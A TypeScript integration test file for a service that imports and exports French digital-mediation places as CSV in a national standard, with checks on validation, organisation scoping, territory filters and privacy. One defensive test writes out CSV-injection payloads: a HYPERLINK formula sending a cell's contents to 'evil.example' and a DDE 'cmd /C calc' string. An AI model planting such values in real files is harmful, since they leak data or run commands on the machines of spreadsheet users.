// Integration: CSV import and export in the national standard, and places by territory.
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { callSubgraph, useTestService } from '@pass-numerique/testing';
import type { Identity } from '@pass-numerique/service-kit';
import { startPartnersService } from '../server';
import { freshSiret } from '../test-support/factories';
import { STANDARD_FIELD_NAMES, violationsOfStandard } from '../test-support/standard-schema';
import { ANONYMOUS, apply, managerOf, OPERATOR, placeStaffOf, qualify, registerOrganisation, registerPlace } from '../testing/partners-test-kit';

const EXAMPLE = readFileSync(path.join(__dirname, '../../reference/standard-mediation-num-v1.0.2.exemple-valide.csv'), 'utf8');
const IMPORT = `mutation($csv: String!, $dry: Boolean) { importPlaces(csv: $csv, dryRun: $dry) { dryRun totalRows created updated unchanged rejected
  rows { line externalId status place { id name openingHours services address { inseeCode } } issues { column field code } } } }`;
const anonymous = ANONYMOUS;

/** A row of the standard with full defaults, in Abbeville (80001), overrides last. */
function row(pivot: string, overrides: Record<string, string> = {}): Record<string, string> {
  return {
    ...Object.fromEntries(STANDARD_FIELD_NAMES.map((n) => [n, ''])),
    id: `lieu-${Math.random().toString(36).slice(2, 8)}`,
    pivot,
    nom: 'Espace numérique de la gare',
    commune: 'Abbeville',
    code_postal: '80100',
    code_insee: '80001',
    adresse: '2 place de la Gare',
    horaires: 'Tu-Sa 10:00-12:30,14:00-18:00',
    date_maj: '2024-05-02',
    services: 'Aide aux démarches administratives|Accès internet et matériel informatique',
    publics_specifiquement_adresses: 'Seniors',
    modalites_acces: 'Se présenter',
    ...overrides,
  };
}
const csvOf = (rows: Array<Record<string, string>>) => stringify(rows, { header: true, columns: STANDARD_FIELD_NAMES });

describe('partners subgraph: places in the national standard', () => {
  const { service } = useTestService('partners', startPartnersService, { loadDemoData: false });
  let siret: string;
  let organisationId: string;
  let staff: Identity;

  beforeAll(async () => {
    siret = freshSiret();
    organisationId = await registerOrganisation(service.url, { siret, legalKind: 'THIRD_PLACE' });
    staff = placeStaffOf(organisationId);
  });

  const importCsv = async (csv: string, dry = false, identity: Identity = staff) => {
    const { data, errors } = await callSubgraph(service.url, IMPORT, { csv, dry }, identity);
    if (errors) throw Object.assign(new Error(errors[0].message), { extensions: errors[0].extensions });
    return data.importPlaces;
  };

  it("imports the standard's own valid example once its pivot is a registered organisation", async () => {
    const before = await importCsv(EXAMPLE, false, OPERATOR);
    expect(before.rows[0]).toMatchObject({ status: 'REJECTED', issues: [{ column: 'pivot', code: 'UNKNOWN_ORGANISATION' }] });
    await registerOrganisation(service.url, { siret: '43493312300029', name: 'Anonymal', legalKind: 'ASSOCIATION', postalCode: '51100', inseeCode: '51454' });
    const report = await importCsv(EXAMPLE, false, OPERATOR);
    expect(report).toMatchObject({ created: 1, rejected: 0 });
    expect(report.rows[0].place).toMatchObject({ name: 'Anonymal', openingHours: 'Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00', address: { inseeCode: '51454' } });
  });

  it('reports every row, accepted or rejected with its reasons, and writes nothing of a bad row', async () => {
    const good = row(siret);
    const noInsee = row(siret, { code_insee: '', commune: 'Abbeville' });
    const bad = row(siret, { code_postal: '8010', horaires: 'le mardi', telephone: '12', services: 'Jardinage' });
    const unknownCommune = row(siret, { code_insee: '80999' });
    const report = await importCsv(csvOf([good, noInsee, bad, unknownCommune, { ...good, nom: 'Doublon' }]));
    expect(report).toMatchObject({ totalRows: 5, created: 2, rejected: 3 });
    expect(report.rows.map((r: { line: number; status: string }) => [r.line, r.status])).toEqual([
      [2, 'CREATED'],
      [3, 'CREATED'],
      [4, 'REJECTED'],
      [5, 'REJECTED'],
      [6, 'REJECTED'],
    ]);
    expect(report.rows[1].place.address.inseeCode).toBe('80001');
    expect(report.rows[2].issues.map((i: { column: string; code: string }) => [i.column, i.code])).toEqual([
      ['code_postal', 'INVALID_CODE'],
      ['telephone', 'INVALID_PHONE'],
      ['horaires', 'INVALID_OPENING_HOURS'],
      ['services', 'BAD_USER_INPUT'],
    ]);
    expect(report.rows[3].issues).toEqual([{ column: 'code_insee', field: 'inseeCode', code: 'INVALID_CODE' }]);
    expect(report.rows[4].issues[0].code).toBe('DUPLICATE_ROW');
    const [{ count }] = await service.dataSource.query(`SELECT count(*)::int AS count FROM place WHERE external_id = ANY($1)`, [[bad.id, unknownCommune.id]]);
    expect(count).toBe(0);
  });

  it('updates on re-import, never duplicates: same file → unchanged, edited row → updated', async () => {
    const a = row(siret);
    const b = row(siret);
    expect(await importCsv(csvOf([a, b]))).toMatchObject({ created: 2 });
    expect(await importCsv(csvOf([a, b]))).toMatchObject({ created: 0, unchanged: 2 });
    const dry = await importCsv(csvOf([{ ...a, nom: 'Espace numérique rénové' }, b]), true);
    expect(dry).toMatchObject({ dryRun: true, updated: 1, unchanged: 1 });
    const again = await importCsv(csvOf([{ ...a, nom: 'Espace numérique rénové' }, b]));
    expect(again).toMatchObject({ created: 0, updated: 1, unchanged: 1 });
    const [{ count }] = await service.dataSource.query(`SELECT count(*)::int AS count FROM place WHERE external_id = ANY($1)`, [[a.id, b.id]]);
    expect(count).toBe(2);
  });

  it('refuses a file that is not the standard as a whole', async () => {
    await expect(importCsv('nom,adresse\nx,y\n')).rejects.toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'csv', missingColumns: ['id', 'pivot', 'code_postal', 'services'] } });
    await expect(importCsv('id,pivot\n"unclosed,x\n')).rejects.toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'csv' } });
    for (const refused of [anonymous, managerOf(randomUUID())]) {
      await expect(importCsv(csvOf([row(siret)]), false, refused)).rejects.toMatchObject({ extensions: { code: 'FORBIDDEN' } });
    }
  });

  it("rejects another organisation's rows exactly as rows of an organisation that is not registered, and writes none of them", async () => {
    const neighbourSiret = freshSiret();
    await registerOrganisation(service.url, { siret: neighbourSiret });
    const theirs = row(neighbourSiret);
    const nobodys = row(freshSiret());
    const mine = row(siret);
    const report = await importCsv(csvOf([theirs, nobodys, mine]));
    expect(report).toMatchObject({ created: 1, rejected: 2 });
    expect(report.rows[0].issues).toEqual([{ column: 'pivot', field: 'organisationId', code: 'UNKNOWN_ORGANISATION' }]);
    expect(report.rows[0].issues).toEqual(report.rows[1].issues);
    const [{ count }] = await service.dataSource.query(`SELECT count(*)::int AS count FROM place WHERE external_id = ANY($1)`, [[theirs.id, nobodys.id]]);
    expect(count).toBe(0);

    const neighbourId = (await callSubgraph(service.url, `query($s: String!) { organisationBySiret(siret: $s) { id } }`, { s: neighbourSiret }, anonymous)).data.organisationBySiret.id;
    const named = await callSubgraph(service.url, `mutation($csv: String!, $o: ID) { importPlaces(csv: $csv, organisationId: $o) { created } }`, { csv: csvOf([row(neighbourSiret)]), o: neighbourId }, staff);
    const missing = randomUUID();
    const unknown = await callSubgraph(service.url, `mutation($csv: String!, $o: ID) { importPlaces(csv: $csv, organisationId: $o) { created } }`, { csv: csvOf([row(neighbourSiret)]), o: missing }, staff);
    expect(named.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', field: 'organisationId' });
    expect(JSON.stringify(named.errors).replaceAll(neighbourId, '<id>')).toBe(JSON.stringify(unknown.errors).replaceAll(missing, '<id>'));
    // The organisation is checked before the file: whatever the file, another one answers as a missing one.
    const NAMED = `mutation($csv: String!, $o: ID) { importPlaces(csv: $csv, organisationId: $o, dryRun: true) { totalRows } }`;
    const badFile = async (o: string) => (await callSubgraph(service.url, NAMED, { csv: 'id,nom\n', o }, staff)).errors?.[0];
    expect(await badFile(neighbourId)).toMatchObject({ extensions: { code: 'NOT_FOUND', field: 'organisationId' } });
    expect(JSON.stringify(await badFile(neighbourId)).replaceAll(neighbourId, '<id>')).toBe(JSON.stringify(await badFile(missing)).replaceAll(missing, '<id>'));
    expect(await badFile(organisationId)).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'csv' } });
    // The platform operator imports for any organisation.
    expect(await importCsv(csvOf([row(neighbourSiret)]), false, OPERATOR)).toMatchObject({ created: 1 });
  });

  it('exports places, all or those of a territory, as CSV that validates against the standard, and re-imports it as no change', async () => {
    const inSomme = row(siret, { nom: `Somme ${Math.random()}` });
    const inPasDeCalais = row(siret, { nom: `Pas-de-Calais ${Math.random()}`, commune: 'Arras', code_postal: '62000', code_insee: '62041', latitude: '50.2910', longitude: '2.7775' });
    await importCsv(csvOf([inSomme, inPasDeCalais]));

    const all = (await callSubgraph(service.url, `{ placesCsv }`, {}, anonymous)).data.placesCsv;
    expect(violationsOfStandard(all)).toEqual([]);
    const somme = (await callSubgraph(service.url, `{ placesCsv(territory: { level: DEPARTEMENT, code: "80" }) }`, {}, anonymous)).data.placesCsv;
    expect(violationsOfStandard(somme)).toEqual([]);
    expect(somme).toContain(inSomme.nom);
    expect(somme).not.toContain(inPasDeCalais.nom);
    expect(somme).not.toMatch(/FR76|Camille/);

    const reimported = await importCsv(all, false, OPERATOR);
    expect(reimported.rejected).toBe(0);
    expect(reimported.created).toBe(0);
  });

  it('exports private data of no one, even places with an IBAN and contact people', async () => {
    const placeId = await registerPlace(service.url, organisationId, { address: { street: '1 rue Privée', postalCode: '80100', inseeCode: '80001' } }, [{ name: 'Dominique Secret' }]);
    await apply(service.url, placeId, organisationId, randomUUID());
    const csv = (await callSubgraph(service.url, `{ placesCsv(territory: { level: COMMUNE, code: "80001" }) }`, {}, anonymous)).data.placesCsv;
    expect(csv).toContain(placeId);
    expect(csv).not.toMatch(/FR763000|Dominique/);
  });

  it('writes every text a producer wrote as text, never as a formula a spreadsheet would run (CSV injection), and reads it back unchanged', async () => {
    const formulas = {
      name: `=HYPERLINK("https://evil.example/?"&A1,"Cliquez ici") ${Math.random()}`,
      summary: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      description: '+33 est un indicatif, -12 un nombre',
      address: { street: '-1 rue du Moins', postalCode: '80000', inseeCode: '80021' },
    };
    const placeId = await registerPlace(service.url, organisationId, formulas);
    const csv = (await callSubgraph(service.url, `query($o: ID) { placesCsv(organisationId: $o) }`, { o: organisationId }, anonymous)).data.placesCsv;
    expect(violationsOfStandard(csv)).toEqual([]);
    const rows: Array<Record<string, string>> = parse(csv, { columns: true });
    const exported = rows.find((r) => r.id === placeId)!;
    expect(exported.nom).toBe(`'${formulas.name}`);
    expect(exported.presentation_resume).toBe(`'${formulas.summary}`);
    expect(exported.presentation_detail).toBe(`'${formulas.description}`);
    expect(exported.adresse).toBe(`'${formulas.address.street}`);
    // Numbers stay numbers, and no cell of the file starts a formula.
    expect(exported.telephone).toBe('+33322971010');
    expect(exported.latitude).toBe('49.8925');
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=@]|^[+-](?![\d.,]+$)/);

    const reimported = await importCsv(csv);
    expect(reimported.rows.find((r: { place: { id: string } | null }) => r.place?.id === placeId)).toMatchObject({ status: 'UNCHANGED', place: { name: formulas.name } });
  });

  it('lists places of a territory with filters and pages, and gives the Territory entity its places and count', async () => {
    const epci = '200070993'; // CA de la Baie de Somme, Abbeville's EPCI
    const seniors = row(siret, { nom: `A-Seniors ${Math.random()}` });
    const youth = row(siret, { nom: `B-Jeunes ${Math.random()}`, publics_specifiquement_adresses: 'Jeunes', services: 'Loisirs et créations numériques' });
    await importCsv(csvOf([seniors, youth]));

    const LIST = `query($t: TerritoryRefInput!, $s: MediationService, $p: SpecificPublic, $after: String) {
      places(territory: $t, service: $s, public: $p, first: 1, after: $after) { totalCount edges { node { name } } pageInfo { hasNextPage endCursor } } }`;
    const t = { level: 'EPCI', code: epci };
    const youthOnly = (await callSubgraph(service.url, LIST, { t, p: 'YOUNG_PEOPLE' }, anonymous)).data.places;
    expect(youthOnly.edges.map((e: { node: { name: string } }) => e.node.name)).toEqual([youth.nom]);
    const leisure = (await callSubgraph(service.url, LIST, { t, s: 'DIGITAL_LEISURE_AND_CREATION' }, anonymous)).data.places;
    expect(leisure.totalCount).toBe(1);
    const first = (await callSubgraph(service.url, LIST, { t }, anonymous)).data.places;
    expect(first.pageInfo.hasNextPage).toBe(true);
    const second = (await callSubgraph(service.url, LIST, { t, after: first.pageInfo.endCursor }, anonymous)).data.places;
    expect(second.edges[0].node.name > first.edges[0].node.name).toBe(true);
    const elsewhere = (await callSubgraph(service.url, LIST, { t: { level: 'DEPARTEMENT', code: '02' } }, anonymous)).data.places;
    expect(elsewhere.totalCount).toBe(0);

    const ENTITIES = `query($reps: [_Any!]!) { _entities(representations: $reps) { ... on Territory { code placeCount qualified: placeCount(qualifiedOnly: true) places(first: 500) { totalCount } } } }`;
    const { data, errors } = await callSubgraph(
      service.url,
      ENTITIES,
      { reps: [{ __typename: 'Territory', level: 'EPCI', code: epci }, { __typename: 'Territory', level: 'COMMUNE', code: '80001' }, { __typename: 'Territory', level: 'REGION', code: '32' }, { __typename: 'Territory', level: 'ZONE', code: 'pact-sat' }] },
      anonymous,
    );
    expect(errors).toBeUndefined();
    const [ofEpci, ofCommune, ofRegion, ofZone] = data._entities;
    expect(ofEpci.placeCount).toBe(ofEpci.places.totalCount);
    expect(ofCommune.placeCount).toBeLessThanOrEqual(ofEpci.placeCount);
    expect(ofCommune.placeCount).toBeGreaterThanOrEqual(2);
    expect(ofRegion.placeCount).toBeGreaterThan(ofEpci.placeCount);
    expect(ofEpci.qualified).toBe(0);
    expect(ofZone).toEqual({ code: 'pact-sat', placeCount: null, qualified: null, places: null });
  });

  it('filters places qualified for one programme (programmeId) or for at least one (qualifiedOnly), in lists, the CSV file and a territory', async () => {
    const [a, b] = [randomUUID(), randomUUID()];
    const inPeronne = { address: { street: '2 rue Saint-Fursy', postalCode: '80200', inseeCode: '80620' } };
    const forA = await registerPlace(service.url, organisationId, { ...inPeronne, name: `Qualifiée A ${Math.random()}` });
    const forB = await registerPlace(service.url, organisationId, { ...inPeronne, name: `Qualifiée B ${Math.random()}` });
    const appliedOnly = await registerPlace(service.url, organisationId, { ...inPeronne, name: `Candidate A ${Math.random()}` });
    await qualify(service.url, forA, organisationId, a);
    await qualify(service.url, forB, organisationId, b);
    await apply(service.url, appliedOnly, organisationId, a);

    const LIST = `query($p: ID, $q: Boolean) { places(territory: { level: COMMUNE, code: "80620" }, programmeId: $p, qualifiedOnly: $q) { totalCount edges { node { id acceptsPasses ofA: acceptsPasses(programmeId: "${'${a}'}") } } } }`.replace('${a}', a);
    const ids = async (variables: Record<string, unknown>) => (await callSubgraph(service.url, LIST, variables, anonymous)).data.places.edges.map((e: { node: { id: string } }) => e.node.id).sort();
    expect(await ids({})).toEqual([forA, forB, appliedOnly].sort());
    expect(await ids({ q: true })).toEqual([forA, forB].sort());
    expect(await ids({ p: a })).toEqual([forA]);
    expect(await ids({ p: b, q: false })).toEqual([forB]);
    expect(await ids({ p: randomUUID() })).toEqual([]);
    const nodes = (await callSubgraph(service.url, LIST, {}, anonymous)).data.places.edges.map((e: { node: unknown }) => e.node);
    expect(nodes).toEqual(expect.arrayContaining([{ id: forA, acceptsPasses: true, ofA: true }, { id: forB, acceptsPasses: true, ofA: false }, { id: appliedOnly, acceptsPasses: false, ofA: false }]));

    const csvOfProgramme = (await callSubgraph(service.url, `query($p: ID) { placesCsv(territory: { level: COMMUNE, code: "80620" }, programmeId: $p) }`, { p: a }, anonymous)).data.placesCsv;
    expect(csvOfProgramme).toContain(forA);
    expect(csvOfProgramme).not.toContain(forB);
    expect(csvOfProgramme).not.toContain(appliedOnly);

    const { data } = await callSubgraph(
      service.url,
      `query($reps: [_Any!]!, $p: ID) { _entities(representations: $reps) { ... on Territory { places(programmeId: $p) { totalCount } qualified: placeCount(qualifiedOnly: true) } } }`,
      { reps: [{ __typename: 'Territory', level: 'COMMUNE', code: '80620' }], p: b },
      anonymous,
    );
    expect(data._entities[0]).toEqual({ places: { totalCount: 1 }, qualified: 2 });
  });
});
